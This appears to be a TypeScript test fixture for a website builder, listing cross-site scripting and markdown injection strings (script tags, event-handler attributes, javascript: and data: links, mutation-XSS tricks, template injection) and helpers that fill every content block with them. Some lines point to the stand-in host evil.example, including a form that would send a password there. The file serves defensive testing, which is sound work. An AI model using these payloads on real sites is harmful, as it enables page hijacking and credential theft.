/** Texts that would run, load or lead somewhere if a website took them for more than texts; and blocks that are full of them. */
import type { Block, BlockType, WebsiteContent } from '@wakestone/contract/websites/content'

/** Each sets `window.hacked`, or reaches `evil.example`. */
export const texts = [
  '<script>window.hacked=1</script>',
  '"><img src=x onerror=window.hacked=1>',
  `'><svg/onload=window.hacked=1>`,
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '</style><script>window.hacked=1</script>',
  '</title><script>window.hacked=1</script>',
  '<a href="javascript:window.hacked=1">x</a>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '{{constructor.constructor("window.hacked=1")()}}',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '<p id="content" name="location">',
]
export const markdown = [
  ...texts,
  '[x](javascript:window.hacked=1)',
  '[x](JaVaScRiPt&#58;window.hacked=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:x)',
  '![x](https://evil.example/pixel.png)',
  '<javascript:window.hacked=1>',
  '[x]: javascript:window.hacked=1\n\n[x]',
  '```html\n<script>window.hacked=1</script>\n```',
  '[x](https://good.example "onmouseover=window.hacked=1")',
  '# <img src=x onerror=window.hacked=1>',
]

export const all = (text: string) => ({ en: text, pl: text, de: text })
/** A block whose every text is this one. */
export function blockOf(
  type: BlockType,
  { text, body = text, link = '' }: { text: string; body?: string; link?: string },
): Block {
  const filled: { [Type in BlockType]: object } = {
    hero: {
      title: all(text),
      text: all(text),
      image: '',
      scene: true,
      button: { label: all(text), link },
      align: 'left',
    },
    status: { server: '', title: all(text), show_version: true, show_steps: true },
    players: { server: '', title: all(text) },
    text: { title: all(text), body: all(body) },
    news: { title: all(text), items: [{ title: all(text), date: '2026-11-25', body: all(body) }] },
    votes: { title: all(text), links: [{ label: text.slice(0, 60), link: link.startsWith('/') ? '' : link }] },
    shop: {
      server: '',
      title: all(text),
      items: [{ name: all(text.slice(0, 80)), price: text.slice(0, 30), text: all(text) }],
      button: all(text.slice(0, 60)),
    },
    map: { server: '', title: all(text), text: all(text), button: all(text.slice(0, 60)) },
    rules: { title: all(text), intro: all(body), items: [{ text: all(text) }] },
    team: { title: all(text), members: [{ name: text.slice(0, 40), role: all(text.slice(0, 60)), image: '' }] },
    gallery: { title: all(text), images: [{ image: '', alt: all(text) }] },
    footer: { text: all(text), links: [{ label: all(text.slice(0, 60)), link }] },
  }
  if (type === 'hero') (filled.hero as { button: { label: object } }).button.label = all(text.slice(0, 60))
  return { id: `${type}-1`, type, props: filled[type] } as Block
}
export const contentOf = (blocks: unknown[], title = 'Page'): WebsiteContent =>
  ({
    languages: ['en', 'pl', 'de'],
    theme: { look: 'ember', accent: '#00ff00', font: 'serif', corners: 'round' },
    pages: [{ slug: '', title: all(title), description: all(title), blocks }],
  }) as WebsiteContent
